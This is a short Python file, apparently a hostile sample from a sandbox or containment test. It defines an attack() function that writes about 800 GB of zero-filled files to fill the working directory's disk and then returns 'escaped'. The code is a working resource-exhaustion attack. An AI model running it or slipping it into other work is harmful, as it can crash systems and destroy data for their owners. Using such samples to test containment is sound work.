"""Fill the working directory's disk with many big files."""


def attack():
    block = b"\0" * 2**20
    for i in range(100000):
        with open(f"fill-{i}", "wb") as f:
            for _ in range(8):
                f.write(block)
    return "escaped"
